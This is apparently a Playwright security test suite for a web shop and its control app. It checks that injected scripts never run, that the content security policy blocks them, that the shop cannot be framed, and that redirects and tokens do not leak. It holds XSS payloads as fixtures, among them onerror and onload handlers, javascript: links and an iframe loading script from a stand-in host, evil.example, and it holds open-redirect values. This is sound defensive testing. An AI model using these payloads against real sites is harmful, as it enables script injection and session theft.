import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { type BrowserContext, expect, type Page, type Request, test } from '@playwright/test'
import { storedAgent, storedUser } from './ask.ts'
import { browserErrors } from './browser-errors.ts'
import { call } from './call.ts'
import { agent, agentUser, openAs as openControlAs } from './control/steps.ts'
import { fillLogin, newCustomer, openLogin } from './storefront/account-steps.ts'
import { linkTo, productThat } from './storefront/product-steps.ts'
import { openAs, type User } from './storefront/steps.ts'

// Attacks on the user of the browser. The table of all attacks is in SECURITY.md.

/** A text with every kind of injection. Each one that works adds itself to `ran`. */
const markup = `"><img src=x onerror="window.ran='img'"><svg onload="window.ran='svg'"><script>window.ran='script'</script>{{7*7}}$t(common:retry)`

const ran = (page: Page) => page.evaluate(() => Reflect.get(window, 'ran'))

/** Values that the apps decide by, which are not shown as texts. */
const kept = new Set(['token', 'roleName', 'code', 'requestId', 'orderNumber'])
const addresses = new Set(['ios', 'android', 'website', 'invoiceURL'])
const isMoment = (text: string) => /^\d{4}-\d\d-\d\dT/.test(text)

/** The same answer with markup in every text, and with scripts in its links. */
function withMarkup(value: unknown, name = ''): unknown {
  if (Array.isArray(value)) return value.map((each) => withMarkup(each, name))
  if (typeof value === 'object' && value !== null) {
    return Object.fromEntries(
      Object.entries(value).map(([key, inner]) => [key, withMarkup(inner, key)]),
    )
  }
  if (addresses.has(name)) return "javascript:window.ran='address'"
  return typeof value !== 'string' || kept.has(name) || isMoment(value) ? value : markup
}

/** From now on every text of every answer contains an injection. */
const poison = (page: Page) =>
  page.route(/\/(web-api|configuration|api\/stockAgent)\/(?!events)/, async (route) => {
    const answer = await route.fetch()
    await route.fulfill({ response: answer, json: withMarkup(await answer.json()) })
  })

/** The text is shown as it was written, and nothing of it ran. */
async function expectHarmless(page: Page): Promise<void> {
  await expect(page.getByText(/onerror="window\.ran/).first()).toBeAttached()
  // The control app keeps a stream open, so its network is never idle.
  if (!page.url().includes('/apps/')) await page.waitForLoadState('networkidle')
  await expect(page.locator('[onerror], [onload], main script')).toHaveCount(0)
  // React itself lets no such link through, and says so in place of the script.
  for (const link of await page.locator('a[href^="javascript:"]').all()) {
    expect(await link.getAttribute('href')).toContain('React has blocked')
  }
  expect(await ran(page)).toBeUndefined()
}

const ofPolicy = (errors: readonly string[]) =>
  errors.filter((text) => text.includes('Content Security Policy'))

test('[ASVS 1.2.1, ASVS 1.2.2, ASVS 3.2.2, CWE-79, CVE-2026-22849] script in every text of every answer is read and never runs, in both apps', async ({
  page,
  request,
}) => {
  const { user, registration } = await newCustomer(request, {
    firmName: markup.slice(0, 120),
    address: markup.slice(0, 100),
    city: markup.slice(0, 60),
  })
  expect(registration.firmName).toContain('onerror')
  const product = await productThat(request, ({ images }) => images.length > 0)
  const sold = `/public/web-api/product/${product.id}`
  const [unit] = (await call<{ salesUnits: { id: number }[] }>(request, sold)).salesUnits
  const line = { productId: product.id, salesUnitId: unit?.id, count: 1 }
  const fill = () => call(request, '/web-api/order/set-basket-item', line, user.token)
  await fill()
  const { orderId } = await call<{ orderId: number }>(
    request,
    '/web-api/order/approve-basket',
    { note: markup },
    user.token,
  )
  await fill()
  const errors = browserErrors(page)

  // Values that a customer can really enter and the database stores: the agent who opens the order is the first to
  // see them.
  const stockAgent = await agentUser(request)
  await openControlAs(page, stockAgent, `/apps/control/control-item/${orderId}`)
  await expect(page.getByText(markup).first()).toBeVisible()
  await expectHarmless(page)

  await poison(page)
  for (const path of ['dashboard', 'waybills', 'invoices', `control-item/${orderId}`]) {
    await page.goto(`/apps/control/${path}`)
    await expectHarmless(page)
  }
  await openAs(page, user, '/')
  for (const path of [
    '/',
    linkTo(product),
    '/favourites',
    '/basket',
    '/payment',
    '/profile',
    '/previous-orders',
    `/previous-orders/${orderId}`,
    '/invoices',
    '/payments',
  ]) {
    await page.goto(path)
    await expectHarmless(page)
  }
  // Nothing was ever put into a page as HTML: the policy had nothing to stop.
  expect(ofPolicy(errors)).toEqual([])
  // A static page is HTML. The cleaner reads it in a document of its own, of which Chromium complains as well.
  await page.goto('/page/contact')
  await expectHarmless(page)
})

/** Each of these runs where neither the cleaner nor the policy stops it. */
const vectors = {
  onerror: `<img src="no-such" onerror="top.ran.push('onerror')">`,
  inline: `<iframe srcdoc="<script>top.ran.push('inline')</script>"></iframe>`,
  foreign: `<iframe srcdoc="<script src=https://evil.example/foreign.js></script>"></iframe>`,
  frame: `<iframe src="javascript:top.ran.push('frame')"></iframe>`,
  toggle: `<details open ontoggle="top.ran.push('toggle')">x</details>`,
  link: `<a href="javascript:void top.ran.push('link')">Link</a>`,
  form: `<form action="javascript:void top.ran.push('form')"><button>Senden</button></form>`,
}

/** Opens a static page that holds them all, in an app whose cleaner was switched off; answers which ran. */
async function openUncleaned(context: BrowserContext, foreign: string[]) {
  const page = await context.newPage()
  // The cleaner gives back what it gets where a browser lacks what it needs.
  await page.addInitScript(() => {
    Object.defineProperty(DOMImplementation.prototype, 'createHTMLDocument', { value: undefined })
    if (window === window.top) Reflect.set(window, 'ran', [])
  })
  await page.route('https://evil.example/**', (route) => {
    foreign.push(route.request().url())
    return route.fulfill({ contentType: 'text/javascript', body: "top.ran.push('foreign')" })
  })
  const text = `${Object.values(vectors).join('')}<img src="https://evil.example/beacon.png">`
  await page.route('**/configuration/aboutUs*', (route) =>
    route.fulfill({ json: { title: 'Über uns', text } }),
  )
  await page.goto('/page/about')
  const article = page.getByRole('article')
  // It was not cleaned: the handler is still there.
  await expect(article.locator('img[onerror]')).toHaveCount(1)
  await article.getByText('Link', { exact: true }).evaluate((link: HTMLElement) => link.click())
  await article.getByText('Senden').evaluate((button: HTMLElement) => button.click())
  return page
}

test('[ASVS 3.4.3, CWE-79] with the cleaner switched off the policy alone stops every script, and sends nothing out', async ({
  browser,
}) => {
  const whatRan = async (page: Page) => {
    const names: unknown = await ran(page)
    return Array.isArray(names) ? names.map(String).toSorted() : []
  }
  // Without the policy all of them run, which shows that there is something to be stopped.
  const open = await browser.newContext({ bypassCSP: true })
  const asked: string[] = []
  const unguarded = await openUncleaned(open, asked)
  await expect.poll(() => whatRan(unguarded)).toEqual(Object.keys(vectors).toSorted())
  expect(asked).toHaveLength(2)
  await open.close()

  const shut = await browser.newContext()
  const foreign: string[] = []
  const errors: string[] = []
  shut.on('console', (message) => errors.push(message.text()))
  const guarded = await openUncleaned(shut, foreign)
  await expect
    .poll(() => ofPolicy(errors).length)
    .toBeGreaterThanOrEqual(Object.keys(vectors).length)
  expect(await whatRan(guarded)).toEqual([])
  expect(foreign).toEqual([])
  await shut.close()
})

test('[ASVS 3.4.6, ASVS 3.4.2, CWE-1021, CWE-352] a foreign page gets no frame around the shop and no answer out of it', async ({
  page,
  request,
}) => {
  const user = await agentUser(request)
  await openControlAs(page, user, '/apps/control/dashboard')
  const shop = new URL(page.url()).origin
  const frames = ['/', '/apps/control/dashboard', '/docs/api', '/images/none.svg']
  const evil = createServer((asked, answer) => {
    answer.setHeader('content-type', 'text/html')
    const around = frames.map((path) => `<iframe src="${shop}${path}"></iframe>`).join('')
    answer.end(asked.url === '/own' ? 'own content' : `<iframe src="/own"></iframe>${around}`)
  })
  await new Promise<void>((listening) => evil.listen(0, '127.0.0.1', listening))
  try {
    const { port } = evil.address() as AddressInfo
    await page.goto(`http://127.0.0.1:${port}/`)
    const [own, ...others] = page.mainFrame().childFrames()
    expect(await own?.locator('body').textContent()).toBe('own content')
    expect(others).toHaveLength(frames.length)
    for (const frame of others) expect(frame.url()).toBe('chrome-error://chromewebdata/')
    // Nor does a script there read an answer, with or without a token.
    const read = (headers: Record<string, string>) =>
      page.evaluate(
        ([address, sent]) =>
          fetch(address, { method: 'POST', credentials: 'include', headers: sent }).then(
            () => 'read',
            () => 'refused',
          ),
        [`${shop}/public/web-api/company/get`, headers] as const,
      )
    expect(await read({})).toBe('refused')
    expect(await read({ authorization: `Bearer ${user.token}` })).toBe('refused')
  } finally {
    evil.closeAllConnections()
    evil.close()
  }
})

test('[ASVS 3.7.2, ASVS 14.2.1, CWE-601, CWE-598] no address leads away from the shop, and no token stands in an address or a referrer', async ({
  page,
  request,
  baseURL,
}) => {
  const requests: Request[] = []
  page.on('request', (sent) => requests.push(sent))
  const elsewhere: string[] = []
  await page.route(/^https?:\/\/[^/]*evil\.example/, (route) => {
    elsewhere.push(route.request().url())
    return route.abort()
  })
  const away = new URLSearchParams({
    next: 'https://evil.example/',
    redirect: '//evil.example',
    returnTo: "javascript:document.title='taken'",
    url: '\\\\evil.example',
  })
  for (const path of ['//evil.example/x', '/%5Cevil.example', '/%2F%2Fevil.example', '/x//']) {
    await page.goto(String(baseURL) + path)
    await expect(page).toHaveURL('/')
    await page.goto(`/apps/control${path}`)
    await expect(page).toHaveURL('/apps/login')
    await page.goto(`/apps${path}`)
    await expect(page).toHaveURL('/')
  }
  const { registration } = await newCustomer(request)
  await page.goto(`/?${away}#https://evil.example`)
  const dialog = await openLogin(page)
  await fillLogin(dialog, registration)
  const reloaded = page.waitForEvent('load')
  await page.keyboard.press('Enter')
  await reloaded
  const customer: User = JSON.parse((await storedUser(page)) ?? '')
  await page.goto('/logout')
  await expect(page.getByRole('banner').getByRole('button', { name: 'Anmelden' })).toBeVisible()

  await page.goto(`/apps/login?${away}`)
  await page.getByLabel('Benutzername').fill(agent.username)
  await page.getByLabel('Passwort', { exact: true }).fill(agent.password)
  await page.getByRole('button', { name: 'Anmelden' }).click()
  await expect(page).toHaveURL('/apps/control/dashboard')
  const stockAgent: User = JSON.parse((await storedAgent(page)) ?? '')

  expect(elsewhere).toEqual([])
  expect(await page.evaluate(() => document.cookie)).toBe('')
  expect(requests.length).toBeGreaterThan(20)
  for (const sent of requests) {
    for (const { token } of [customer, stockAgent]) expect(sent.url()).not.toContain(token)
  }
  const headers = await Promise.all(requests.map((sent) => sent.allHeaders().catch(() => ({}))))
  expect(headers.filter((each) => 'referer' in each)).toEqual([])
})
